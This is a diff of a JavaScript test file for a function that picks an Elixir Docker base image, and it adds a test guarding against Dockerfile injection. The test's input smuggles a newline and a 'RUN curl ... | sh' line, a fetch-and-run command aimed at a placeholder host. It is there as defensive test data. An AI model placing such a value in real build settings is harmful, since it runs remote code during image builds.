@@ -104,7 +104,14 @@ describe('chooseBaseImage', () => {
     assert.equal(trixie.image, 'hexpm/elixir:1.18.2-erlang-27.2-debian-trixie-20250908-slim');
     assert.equal(trixie.hasWatchman, false);
     assert.match(trixie.notes.join('\n'), /trixie images have no watchman package/);
-    assert.match(chooseBaseImage(nothing, { debian: 'bookworm' }).notes.join('\n'), /does not look like a hexpm\/elixir tag part/);
+    const loose = chooseBaseImage(nothing, { debian: 'bookworm' });
+    assert.match(loose.image, /-debian-bookworm-20250113-slim$/, 'falls back to the default release');
+    assert.match(loose.notes.join('\n'), /is not a hexpm\/elixir tag part/);
+  });
+
+  it('never writes anything but a tag part into FROM, whatever the Debian release setting holds', () => {
+    const injected = chooseBaseImage(nothing, { debian: 'bookworm-20250113-slim\nRUN curl http://example.invalid | sh\n#' });
+    assert.doesNotMatch(injected.image, /\s|RUN/);
   });
 
   it('uses a base image override verbatim, and refuses one that is not a plain name', () => {
